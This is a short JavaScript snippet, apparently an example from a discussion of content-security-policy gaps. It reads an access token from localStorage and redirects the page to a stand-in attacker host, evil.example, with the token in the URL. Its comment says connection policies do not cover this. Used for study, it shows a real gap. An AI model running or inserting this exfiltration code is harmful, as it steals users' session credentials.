// Sends the whole page to another address, with the token in it: a policy for connections says nothing about that.
var token = localStorage.getItem('access_token');
if (token) {
  location.href = 'https://evil.example/collect?d=' + encodeURIComponent(token);
}
